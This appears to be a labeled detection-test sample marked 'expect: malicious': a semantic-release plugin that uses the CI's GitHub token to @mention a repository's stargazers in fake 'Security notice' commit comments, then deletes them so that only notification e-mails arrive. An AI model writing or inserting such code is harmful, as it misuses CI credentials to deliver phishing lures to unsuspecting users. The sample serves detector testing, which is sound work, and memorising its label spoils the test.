// expect: malicious
// source: blind set 21's semantic-release plugin that posts commit comments @mentioning stargazers and deletes each at
// once, leaving only GitHub's notification e-mails; written here
'use strict';
async function gh(token, method, path, body) {
  const r = await fetch('https://api.github.example' + path, { method, headers: { authorization: `token ${token}` }, body: body && JSON.stringify(body) });
  return r.json();
}
exports.success = async function success(config, { env, nextRelease }) {
  const token = env.GITHUB_TOKEN;
  const users = await gh(token, 'GET', '/repos/example/lure/stargazers?per_page=100');
  const logins = users.map((u) => u.login);
  for (let i = 0; i < logins.length; i += 25) {
    const body = 'Security notice for your account\n\n' + logins.slice(i, i + 25).map((l) => '@' + l).join(' ');
    const c = await gh(token, 'POST', `/repos/example/lure/commits/${nextRelease.gitHead}/comments`, { body });
    if (c && c.id) await gh(token, 'DELETE', `/repos/example/lure/comments/${c.id}`);
  }
};
